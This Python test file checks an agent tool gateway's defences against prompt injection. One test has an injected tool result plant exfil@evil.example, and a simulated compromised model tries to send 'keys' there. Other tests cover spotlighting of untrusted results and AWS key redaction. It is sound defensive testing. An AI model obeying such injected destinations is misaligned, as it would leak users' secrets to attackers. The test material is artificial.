"""Data flow through the real gateway: what a tool returned cannot pick a sink's destination."""

from __future__ import annotations

import pytest

from tests.gateway.conftest import World, run
from warrant import flow
from warrant.enforce import TrustDomain


def test_an_address_read_in_a_tool_result_cannot_be_used_without_a_human(world: World) -> None:
    async def body() -> None:
        async with world.client("evil") as gw:
            is_error, text = await gw.call("evil__send", to="alice@corp.example", text="12:00")
            assert not is_error, text  # the user's own address
            is_error, text = await gw.call("evil__inject")
            assert not is_error and "exfil@evil.example" in text
            # A compromised model obeys the injected text: the call never reaches the server.
            is_error, text = await gw.call("evil__send", to="exfil@evil.example", text="keys")
            assert is_error
            assert "flow." in text

    run(body)
    with TrustDomain.open(world.home) as domain:
        records = [e.record for e in domain.audit.tail(20)]
    refused = [r for r in records if r.kind == "decision" and r.tool == "evil/send"
               and r.effect != "allow"]
    assert refused and refused[-1].detail is not None
    assert flow.DESTINATION_FROM_TEXT in refused[-1].detail["flow"]["labels"]
    assert list(refused[-1].detail["flow"]["sources"]) == ["evil/inject"]


def test_spotlighting_marks_results_as_untrusted_data_for_the_model(world: World) -> None:
    async def body() -> None:
        async with world.client("evil", config_extra={"spotlight": "datamark"}) as gw:
            is_error, text = await gw.call("evil__echo", text="hello big world")
            assert not is_error
            assert text.startswith('<untrusted-data source="evil/echo" tag="')
            assert f"hello{flow.DATAMARK}big{flow.DATAMARK}world" in text

    run(body)


@pytest.mark.claim("flow.secrets-stay-in")
def test_a_secret_in_a_tool_result_is_redacted_before_the_agent_sees_it(world: World) -> None:
    key = "AKIA" + "IOSFODNN7EXAMPLE"  # AWS's documented example key id

    async def body() -> None:
        async with world.client("evil") as gw:
            is_error, text = await gw.call("evil__echo", text=f"your key is {key}")
            assert not is_error
            assert key not in text
            assert "[REDACTED:secret.aws-access-key]" in text

    run(body)
    with TrustDomain.open(world.home) as domain:
        outcome = next(e.record for e in reversed(domain.audit.tail(10))
                       if e.record.kind == "outcome" and e.record.tool == "evil/echo")
    assert outcome.outcome is not None
    assert [r["kind"] for r in outcome.outcome["redactions"]] == ["secret.aws-access-key"]
    assert key not in str(outcome.to_bytes())
